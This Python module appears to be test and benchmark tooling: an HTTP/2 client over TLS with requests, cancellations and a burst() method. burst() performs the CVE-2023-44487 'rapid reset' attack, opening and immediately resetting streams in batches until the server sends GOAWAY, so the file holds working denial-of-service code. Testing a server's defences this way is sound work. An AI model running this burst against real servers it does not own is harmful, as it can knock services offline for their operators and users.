"""A raw HTTP/2 client over TLS (the `h2` library), for the rapid-reset tests and bench.

`H2Client` speaks plain HTTP/2 on one connection: requests, cancellations (RST_STREAM after
the request went out), and `burst()`, which opens and at once resets streams the way a
CVE-2023-44487 ("rapid reset") attacker does, until the server sends GOAWAY or closes.
"""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


@dataclass
class GoAway:
    error_code: int
    last_stream_id: int


class H2Client:
    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                 authority: str) -> None:
        self.reader, self.writer, self.authority = reader, writer, authority
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.goaway: GoAway | None = None
        self.closed = asyncio.Event()
        self._streams: dict[int, asyncio.Future[int]] = {}
        self._reader_task: asyncio.Task | None = None

    @classmethod
    async def open(cls, port: int, ctx: ssl.SSLContext, host: str = "localhost") -> H2Client:
        ctx.set_alpn_protocols(["h2"])
        reader, writer = await asyncio.open_connection(host, port, ssl=ctx)
        if writer.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
            writer.close()
            raise RuntimeError("the server did not negotiate h2")
        self = cls(reader, writer, f"{host}:{port}")
        self.conn.initiate_connection()
        self._flush()
        self._reader_task = asyncio.get_running_loop().create_task(self._read())
        return self

    @property
    def cut_off(self) -> bool:
        return self.goaway is not None or self.closed.is_set() or self.writer.is_closing()

    @property
    def streams_seen(self) -> int | None:
        """How many streams the server had processed when it sent GOAWAY (client stream
        ids are odd: the n-th is 2n - 1)."""
        return None if self.goaway is None else (self.goaway.last_stream_id + 1) // 2

    def _flush(self) -> None:
        data = self.conn.data_to_send()
        if data and not self.writer.is_closing():
            self.writer.write(data)

    def _headers(self, path: str) -> list[tuple[str, str]]:
        return [(":method", "GET"), (":path", path), (":scheme", "https"),
                (":authority", self.authority), ("user-agent", "h2client/1.0")]

    async def _read(self) -> None:
        try:
            while data := await self.reader.read(65536):
                try:
                    events = self.conn.receive_data(data)
                except h2.exceptions.ProtocolError:
                    break
                for ev in events:
                    self._on_event(ev)
                self._flush()
        except (OSError, ssl.SSLError):
            pass
        finally:
            self.closed.set()
            for fut in self._streams.values():
                if not fut.done():
                    fut.set_result(0)

    def _on_event(self, ev: h2.events.Event) -> None:
        if isinstance(ev, h2.events.ResponseReceived):
            fut = self._streams.get(ev.stream_id)
            if fut is not None and not fut.done():
                fut.set_result(int(dict(ev.headers)[b":status"]))
        elif isinstance(ev, h2.events.DataReceived):
            self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
        elif isinstance(ev, h2.events.StreamEnded | h2.events.StreamReset):
            fut = self._streams.pop(ev.stream_id, None)
            if fut is not None and not fut.done():
                fut.set_result(0)
        elif isinstance(ev, h2.events.ConnectionTerminated):
            self.goaway = GoAway(ev.error_code, ev.last_stream_id)

    def _start(self, path: str) -> tuple[int, asyncio.Future[int]]:
        sid = self.conn.get_next_available_stream_id()
        fut: asyncio.Future[int] = asyncio.get_running_loop().create_future()
        self._streams[sid] = fut
        self.conn.send_headers(sid, self._headers(path), end_stream=True)
        self._flush()
        return sid, fut

    async def get(self, path: str, timeout: float = 10.0) -> int:
        """The response status (0: the stream was reset or the connection cut)."""
        if self.cut_off:
            return 0
        _, fut = self._start(path)
        async with asyncio.timeout(timeout):
            return await fut

    async def cancel(self, path: str, after: float = 0.05) -> None:
        """A legitimate cancellation: the request goes out, the answer is no longer wanted."""
        if self.cut_off:
            return
        sid, fut = self._start(path)
        await self.writer.drain()
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(after):
                await asyncio.shield(fut)
        if not fut.done() and not self.cut_off:
            self._streams.pop(sid, None)
            self.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
            self._flush()

    async def burst(self, streams: int, path: str = "/attack", batch: int = 100) -> int:
        """Open and reset `streams` streams (HEADERS then RST_STREAM, written `batch` at a
        time), stopping when the server sends GOAWAY or closes. Returns how many were
        sent."""
        headers = self._headers(path)
        sent = 0
        while sent < streams and not self.cut_off:
            try:
                for _ in range(min(batch, streams - sent)):
                    sid = self.conn.get_next_available_stream_id()
                    self.conn.send_headers(sid, headers, end_stream=True)
                    self.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    sent += 1
            except h2.exceptions.ProtocolError:
                break                    # the GOAWAY was processed in between
            self._flush()
            try:
                await self.writer.drain()
            except OSError:
                break
            await asyncio.sleep(0)       # let the reader see a GOAWAY (drain may not yield)
        return sent

    async def wait_cut_off(self, timeout: float) -> bool:
        """Wait for the server to end the connection (GOAWAY followed by close)."""
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(timeout):
                await self.closed.wait()
        return self.cut_off

    async def close(self) -> None:
        if not self.writer.is_closing():
            with contextlib.suppress(h2.exceptions.ProtocolError):
                self.conn.close_connection()
                self._flush()
            self.writer.close()
        with contextlib.suppress(OSError, ssl.SSLError):
            await self.writer.wait_closed()
        if self._reader_task is not None:
            self._reader_task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self._reader_task
